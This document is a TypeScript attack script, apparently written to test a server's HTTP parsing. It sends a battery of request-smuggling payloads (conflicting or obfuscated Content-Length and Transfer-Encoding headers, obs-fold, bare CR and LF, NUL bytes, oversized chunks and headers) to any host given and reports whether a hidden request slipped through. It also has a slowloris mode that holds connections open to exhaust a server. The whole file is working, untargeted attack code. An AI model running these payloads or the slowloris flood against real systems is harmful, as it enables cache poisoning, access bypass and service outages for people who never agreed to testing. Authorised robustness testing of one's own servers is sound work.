/**
 * What a node may send that no installer does. usage: attacks.ts HOST PORT TARGET KIND; prints what came back to each, one JSON
 * object a line. `slowloris` opens connections that never finish their request and stays until it is ended.
 */
import { connect } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { pathToFileURL } from 'node:url'

const ANSWER_MS = 3_000
const SLOW_CONNECTIONS = 24
const HIDDEN = 'GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n'

/** Requests whose end two readers may see at different places; TARGET is put in. */
export const SMUGGLED: Readonly<Record<string, (target: string) => string>> = {
  'CL and TE': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: ${5 + HIDDEN.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  'TE and CL': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`,
  'GET with CL and TE': target => `GET ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: ${5 + HIDDEN.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  'two CL': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  'CL list': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: 0, ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  'CL with a sign': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: +0\r\n\r\n${HIDDEN}`,
  'TE in disguise': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  'TE with a tab': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding:\tchunked\r\nContent-Length: ${5 + HIDDEN.length}\r\n\r\n0\r\n\r\n${HIDDEN}`,
  'TE and a space': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\nContent-Length: ${5 + HIDDEN.length}\r\n\r\n0\r\n\r\n${HIDDEN}`,
  'obs-fold': target => `GET ${target} HTTP/1.1\r\nHost: x\r\nX-Fold: a\r\n Content-Length: ${HIDDEN.length}\r\n\r\n`,
  'obs-fold of TE': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length: ${5 + HIDDEN.length}\r\n\r\n0\r\n\r\n${HIDDEN}`,
  'bare LF': target => `GET ${target} HTTP/1.1\nHost: x\nX-A: b\n\n`,
  'bare CR': target => `GET ${target} HTTP/1.1\r\nHost: x\r\nX-A: b\rContent-Length: ${HIDDEN.length}\r\n\r\n`,
  'NUL in a header': target => `GET ${target} HTTP/1.1\r\nHost: x\r\nX-A: b\0c\r\n\r\n`,
  'two hosts': target => `GET ${target} HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n`,
  'chunk with an extension that has LF': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n2;\nxx\r\n${HIDDEN.length.toString(16)}\r\n0\r\n\r\n${HIDDEN}`,
  'size of a chunk beyond 64 bits': target => `POST ${target} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\n${HIDDEN}\r\n0\r\n\r\n`,
  'header of 1 MB': target => `GET ${target} HTTP/1.1\r\nHost: x\r\nX-Long: ${'h'.repeat(1024 * 1024)}\r\n\r\n`
}

export interface AttackAnswer { name: string, statuses: number[], smuggled: boolean }

/** Sends one and listens for a while. */
async function attack (host: string, port: number, name: string, bytes: string): Promise<AttackAnswer> {
  const socket = connect({ host, port })
  let text = ''
  const closed = new Promise<undefined>(resolve => socket.on('close', () => { resolve(undefined) }))
  socket.on('error', () => socket.destroy())
  socket.on('data', chunk => { text += chunk.toString('latin1') })
  socket.write(bytes)
  await Promise.race([closed, delay(ANSWER_MS)])
  socket.destroy()
  return { name, statuses: [...text.matchAll(/^HTTP\/1\.[01] (\d{3})/gm)].map(match => Number(match[1])), smuggled: text.includes('smuggled') }
}

async function main ([host = '', port = '', target = '/', kind = '']: readonly string[]): Promise<void> {
  if (kind === 'slowloris') {
    for (let i = 0; i < SLOW_CONNECTIONS; i++) {
      const socket = connect({ host, port: Number(port) })
      socket.on('error', () => socket.destroy())
      socket.write(`GET ${target} HTTP/1.1\r\nHost: x\r\n`)
      const timer = setInterval(() => socket.write('X-Slow: 1\r\n'), 500)
      socket.on('close', () => { clearInterval(timer) })
    }
    process.stdout.write('open\n')
    await delay(120_000)
    return
  }
  const answers = await Promise.all(Object.entries(SMUGGLED).map(async ([name, bytes]) => await attack(host, Number(port), name, bytes(target))))
  for (const one of answers) process.stdout.write(`${JSON.stringify(one)}\n`)
  process.exit(0)
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) await main(process.argv.slice(2))
